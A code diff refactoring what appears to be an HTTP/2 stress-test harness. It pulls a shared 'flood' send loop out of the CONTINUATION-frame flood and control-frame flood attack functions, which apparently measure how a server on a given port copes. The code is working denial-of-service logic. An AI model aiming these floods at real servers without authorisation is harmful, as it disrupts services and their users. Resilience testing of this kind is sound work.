@@ -374,6 +374,20 @@ class AttackConnection:
 # --- the attacks ----------------------------------------------------------------------------
 
 
+def flood(conn: AttackConnection, frame: bytes, frames: int, deadline: float) -> int:
+    """`frame` sent `frames` times, about 64 KiB a send, until the deadline or the server
+    ends the connection; how many went out (the time of the last: mark "last_byte")."""
+    per_send = max(1, (1 << 16) // len(frame))
+    sent = 0
+    while sent < frames and not conn.ended() and time.monotonic() < deadline:
+        count = min(per_send, frames - sent)
+        if not conn.send(frame * count, frames=count):
+            break
+        sent += count
+    conn.marks["last_byte"] = conn.elapsed()
+    return sent
+
+
 def open_streams(conn: AttackConnection, count: int, seconds: float, batch: int,
                  reset: bool) -> list[int]:
     """Streams opened `batch` at a time (each reset at once with `reset`) until `count`,
@@ -433,14 +447,7 @@ def continuation_flood(port: int, frame_size: int = 16, frames: int = 10_000,
     if conn.handshake():
         conn.send(headers(1, conn.request(), end_stream=True, end_headers=False))
         one = ContinuationFrame(1, data=header_filler(frame_size)).serialize()
-        per_send = max(1, (1 << 16) // len(one))
-        sent = 0
-        while sent < frames and not conn.ended() and time.monotonic() < deadline:
-            count = min(per_send, frames - sent)
-            if not conn.send(one * count, frames=count):
-                break
-            sent += count
-        conn.marks["last_byte"] = conn.elapsed()
+        sent = flood(conn, one, frames, deadline)
         conn.figures["continuations"] = sent
         conn.linger()
     return conn.result(f"CONTINUATION flood ({frame_size}-byte frames)", streams=[1])
@@ -503,14 +510,8 @@ def _control_flood(port: int, name: str, frame: bytes, frames: int, read: bool,
     conn = AttackConnection(port, read=read, receive_buffer=None if read else 1 << 14)
     deadline = time.monotonic() + seconds
     if conn.handshake():
-        per_send = max(1, (1 << 16) // len(frame))
-        sent, acks_before = 0, acks(conn.view)
-        while sent < frames and not conn.ended() and time.monotonic() < deadline:
-            count = min(per_send, frames - sent)
-            if not conn.send(frame * count, frames=count):
-                break
-            sent += count
-        conn.marks["last_byte"] = conn.elapsed()
+        acks_before = acks(conn.view)
+        sent = flood(conn, frame, frames, deadline)
         conn.figures["flood_frames"] = sent
         if read:
             conn.wait_until(lambda view: acks(view) - acks_before >= sent, LINGER_SECONDS)
